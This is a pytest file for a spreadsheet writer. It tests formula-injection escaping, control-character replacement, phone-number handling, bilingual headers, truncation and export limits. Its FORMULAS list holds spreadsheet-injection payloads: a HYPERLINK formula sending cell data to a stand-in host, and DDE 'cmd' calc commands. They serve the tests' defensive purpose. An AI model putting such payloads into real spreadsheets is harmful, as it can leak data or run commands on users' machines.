"""The spreadsheet writer: formulas never run, every character is writable, rows are bounded."""

from __future__ import annotations

import csv
import io
import os
import tempfile
import threading
from collections.abc import Iterator, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from storage.sheets import (
    CHUNK_BYTES,
    FORMULA_PREFIXES,
    HEADERS,
    LANGUAGES,
    XLSX_MAX_CELL,
    XLSX_MAX_ROWS,
    ExportGate,
    ExportOutcome,
    aiter_sheet,
    csv_cell,
    csv_text,
    escape_text,
    headers,
    iter_csv,
    iter_sheet,
    iter_xlsx,
    truncation_text,
    unescape_text,
    write_sheet,
)

#: Every character XML 1.0 cannot hold that a caller name or a note could bring.
CONTROLS = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"] + ["\ufffe", "\uffff", "\ud800"]

#: Text cells a spreadsheet would run, one per formula prefix.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(chunks: Iterator[bytes]) -> list[list[str]]:
    data = b"".join(chunks)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(chunks: Iterator[bytes]) -> list[list[Any]]:
    book = load_workbook(io.BytesIO(b"".join(chunks)))
    return [list(row) for row in book.worksheets[0].iter_rows()]


# -- formulas --------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_escapes_every_formula_prefix(text: str) -> None:
    assert text[0] in FORMULA_PREFIXES
    rows = read_csv(iter_csv([[text, "x"]], header=["name", "other"]))
    assert rows[1] == ["'" + text, "x"]
    assert unescape_text(rows[1][0]) == text


def test_every_prefix_is_covered() -> None:
    assert {text[0] for text in FORMULAS} == set(FORMULA_PREFIXES) == set("=+-@\t\r")


@pytest.mark.parametrize("text", FORMULAS)
def test_xlsx_keeps_formula_text_as_a_quoted_string_cell(text: str) -> None:
    (header, row) = read_xlsx(iter_xlsx([[text, "x"]], header=["name", "other"]))
    cell = row[0]
    assert cell.value == text  # the text as it was: nothing added, nothing run
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    assert row[1].value == "x"
    assert row[1].quotePrefix is False


def test_xlsx_error_codes_and_header_formulas_are_text() -> None:
    (header, row) = read_xlsx(iter_xlsx([["#N/A", "#DIV/0!"]], header=["=1+1", "ok"]))
    assert [(c.value, c.data_type) for c in row] == [("#N/A", "s"), ("#DIV/0!", "s")]
    assert (header[0].value, header[0].data_type, header[0].quotePrefix) == ("=1+1", "s", True)
    rows = read_csv(iter_csv([["a"]], header=["=1+1"]))
    assert rows[0] == ["'=1+1"]


def test_escape_is_undone_exactly() -> None:
    for text in [*FORMULAS, "'=x", "''+1", "'plain", "plain", "", "'", "+8613800138000", "it's"]:
        assert unescape_text(escape_text(text)) == text, text
    assert escape_text("'=x") == "''=x"
    assert escape_text("'plain") == "'plain"
    assert unescape_text("'plain") == "'plain"


# -- numbers and phone numbers ---------------------------------------------------------


def test_numbers_stay_numbers() -> None:
    values: list[Any] = [-5, 1.5, Decimal("-2.25"), 0, None, True]
    assert read_csv(iter_csv([values]))[0] == ["-5", "1.5", "-2.25", "0", "", "true"]
    assert [csv_cell(v) for v in values[:4]] == values[:4]
    (row,) = read_xlsx(iter_xlsx([values]))
    assert [c.value for c in row[:4]] == [-5, 1.5, -2.25, 0]
    assert [c.data_type for c in row[:4]] == ["n"] * 4
    # Text that looks like a negative number is text, and escaped: only real numbers are numbers.
    assert escape_text("-5") == "'-5"
    (row,) = read_xlsx(iter_xlsx([[float("nan"), float("inf")]]))
    assert [c.value for c in row] == ["nan", "inf"]


@pytest.mark.parametrize(
    "number",
    [
        "+8613800138000",
        "+86138****8000",
        "+861065529988 ext. 12",
        "+861065529988;ext=12",
        "+8613812345678; +862223456789",
        "+8613600003333; +861065529988 ext. 12",
        "+86 138****5678",  # grouped as the console shows it: still no letter, so no function
    ],
)
def test_phone_numbers_are_left_readable(number: str) -> None:
    assert escape_text(number) == number
    assert read_csv(iter_csv([[number]]))[0] == [number]
    (row,) = read_xlsx(iter_xlsx([[number]]))
    assert (row[0].value, row[0].data_type) == (number, "s")  # text, so Excel keeps the + and digits


@pytest.mark.parametrize(
    "text",
    ["+1-555-123-4567", "+1+1", "+86138(0)", "+8613800138000; =1+1", "+", "-"],
)
def test_other_plus_and_minus_text_is_escaped(text: str) -> None:
    # +1-555-123-4567 would show as -4680; anything beyond bare E.164 numbers gets the apostrophe.
    assert escape_text(text) == "'" + text


# -- characters ------------------------------------------------------------------------


@pytest.mark.parametrize("char", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_illegal_characters_are_replaced_in_csv_and_xlsx(char: str) -> None:
    name = f"Zhang{char}Wei"
    assert read_csv(iter_csv([[name, "ok"]]))[0] == ["Zhang\ufffdWei", "ok"]
    (row,) = read_xlsx(iter_xlsx([[name, "ok"]]))
    assert [c.value for c in row] == ["Zhang\ufffdWei", "ok"]
    # At the start too: replaced, and U+FFFD is no formula prefix.
    assert escape_text(char + "x") == "\ufffdx"


def test_tab_newline_and_carriage_return_inside_a_cell_are_kept() -> None:
    note = "line one\nline two\r\nend\tcolumn"
    assert read_csv(iter_csv([[note]]))[0] == [note]
    (row,) = read_xlsx(iter_xlsx([[note, "a\rb"]]))
    assert [c.value for c in row] == [note, "a\rb"]


def test_chinese_text_and_long_cells() -> None:
    long = "长" * (XLSX_MAX_CELL + 10)
    assert read_csv(iter_csv([["张伟", long]]))[0] == ["张伟", long]  # the CSV has it whole
    (row,) = read_xlsx(iter_xlsx([["张伟", long]]))
    assert row[0].value == "张伟"
    assert len(row[1].value) == XLSX_MAX_CELL
    assert row[1].value.endswith("…")


# -- headers ---------------------------------------------------------------------------


def test_headers_in_both_languages() -> None:
    keys = ["name", "phone", "company", "owner", "tags", "notes"]
    assert headers(keys, "en") == keys
    assert headers(keys, "zh-CN") == ["姓名", "电话", "公司", "负责人", "标签", "备注"]
    assert headers(["row", "reason", "客户手机"], "zh-CN") == ["行号", "原因", "客户手机"]
    assert headers(["started_at", "talk_seconds"], "zh-CN") == ["开始时间", "通话秒数"]
    assert all(set(t) == {"zh-CN"} for t in HEADERS.values())
    assert LANGUAGES == ("en", "zh-CN")
    with pytest.raises(ValueError, match="unknown language"):
        headers(keys, "fr")
    with pytest.raises(ValueError, match="unknown language"):
        list(iter_csv([], lang="de"))


@pytest.mark.parametrize("lang", LANGUAGES)
def test_headers_written_in_csv_and_xlsx(lang: str) -> None:
    header = headers(["name", "phone"], lang)
    assert read_csv(iter_csv([["a", "b"]], header=header))[0] == header
    assert [c.value for c in read_xlsx(iter_xlsx([["a", "b"]], header=header))[0]] == header


# -- limits ----------------------------------------------------------------------------


class CountingRows:
    """Rows made on demand, counting how many were asked for."""

    def __init__(self, count: int) -> None:
        self.count = count
        self.taken = 0

    def __iter__(self) -> Iterator[Sequence[Any]]:
        for n in range(self.count):
            self.taken += 1
            yield [n, f"name {n}"]


@pytest.mark.parametrize("lang", LANGUAGES)
def test_truncation_marker_row_in_csv(lang: str) -> None:
    rows = CountingRows(1000)
    outcome = ExportOutcome()
    written = read_csv(iter_csv(rows, header=["n", "name"], limit=10, lang=lang, outcome=outcome))
    assert len(written) == 1 + 10 + 1
    assert written[-1] == [truncation_text(10, lang)]
    assert "10" in written[-1][0]
    assert ("truncated" if lang == "en" else "已截断") in written[-1][0]
    assert (outcome.rows, outcome.truncated, outcome.limit) == (10, True, 10)
    assert rows.taken == 11  # one more read to know there are more, never all of them


@pytest.mark.parametrize("lang", LANGUAGES)
def test_truncation_marker_row_in_xlsx(lang: str) -> None:
    outcome = ExportOutcome()
    written = read_xlsx(
        iter_xlsx(CountingRows(50), header=["n", "name"], limit=5, lang=lang, outcome=outcome)
    )
    assert len(written) == 1 + 5 + 1
    assert written[-1][0].value == truncation_text(5, lang)
    assert [c.value for c in written[5]] == [4, "name 4"]
    assert outcome.truncated


def test_no_marker_when_the_rows_fit() -> None:
    outcome = ExportOutcome()
    written = read_csv(iter_csv(CountingRows(10), limit=10, outcome=outcome))
    assert len(written) == 10
    assert (outcome.rows, outcome.truncated) == (10, False)
    outcome = ExportOutcome()
    assert len(read_xlsx(iter_xlsx(CountingRows(3), outcome=outcome))) == 3
    assert (outcome.rows, outcome.truncated, outcome.limit) == (3, False, XLSX_MAX_ROWS)


def test_csv_streams_in_bounded_chunks() -> None:
    rows = CountingRows(20_000)
    chunks = iter_csv(rows)
    first = next(chunks)
    assert CHUNK_BYTES <= len(first) < CHUNK_BYTES * 2
    assert rows.taken < 20_000  # the first chunk came before every row was read
    assert all(len(chunk) < CHUNK_BYTES * 2 for chunk in chunks)
    assert rows.taken == 20_000


def test_csv_text_for_a_terminal() -> None:
    text = csv_text([[1, "=x"]], header=["a", "b"])
    assert text == "a,b\n1,'=x\n"


def test_iter_sheet_chooses_the_format() -> None:
    assert b"".join(iter_sheet("csv", [["a"]])).startswith(b"\xef\xbb\xbfa\r\n")
    assert b"".join(iter_sheet("xlsx", [["a"]])).startswith(b"PK")
    with pytest.raises(ValueError, match="unknown spreadsheet format"):
        iter_sheet("ods", [])  # type: ignore[arg-type]


def test_an_abandoned_xlsx_leaves_no_temporary_file() -> None:
    folder = Path(tempfile.gettempdir())
    before = set(folder.glob("openpyxl.*"))

    def failing() -> Iterator[list[str]]:
        yield ["a"]
        raise RuntimeError("database gone")

    with pytest.raises(RuntimeError, match="database gone"):
        b"".join(iter_xlsx(failing()))
    assert set(folder.glob("openpyxl.*")) == before


# -- files and streams -----------------------------------------------------------------


def test_write_sheet_renames_a_complete_file_only(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    outcome = write_sheet(path, [["a", 1]], header=["x", "y"])
    assert outcome.rows == 1
    umask = os.umask(0o022)
    os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask  # the user's usual permissions, not 0600
    assert [[c.value for c in r] for r in read_xlsx(iter([path.read_bytes()]))] == [["x", "y"], ["a", 1]]

    def failing() -> Iterator[list[str]]:
        yield ["b"]
        raise RuntimeError("database gone")

    csv_path = tmp_path / "out.csv"
    with pytest.raises(RuntimeError):
        write_sheet(csv_path, failing())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx"]  # no half file, no temporary


async def test_aiter_sheet_streams_and_reports_when_done() -> None:
    done: list[bool] = []
    outcome = ExportOutcome()
    chunks = [
        chunk
        async for chunk in aiter_sheet(
            "csv",
            CountingRows(30_000),
            header=["n", "name"],
            outcome=outcome,
            on_done=lambda: done.append(True),
        )
    ]
    assert len(chunks) > 1
    assert outcome.rows == 30_000
    assert done == [True]


async def test_aiter_sheet_abandoned_still_calls_on_done() -> None:
    done: list[str] = []
    loop_thread = threading.current_thread().name
    stream = aiter_sheet(
        "csv", CountingRows(50_000), on_done=lambda: done.append(threading.current_thread().name)
    )
    assert (await anext(stream)).startswith(b"\xef\xbb\xbf")
    await stream.aclose()
    assert len(done) == 1
    assert done[0] != loop_thread  # on_done may block (an audit row): it runs off the event loop


def test_export_gate_limits_each_user() -> None:
    gate = ExportGate(per_user=2)
    first, second = gate.try_acquire("alice"), gate.try_acquire("alice")
    assert first is not None
    assert second is not None
    assert gate.try_acquire("alice") is None
    assert gate.try_acquire("bob") is not None  # another user is not held up
    first.release()
    first.release()  # twice is once
    assert gate.running("alice") == 1
    assert gate.try_acquire("alice") is not None
    with pytest.raises(ValueError, match="at least 1"):
        ExportGate(per_user=0)
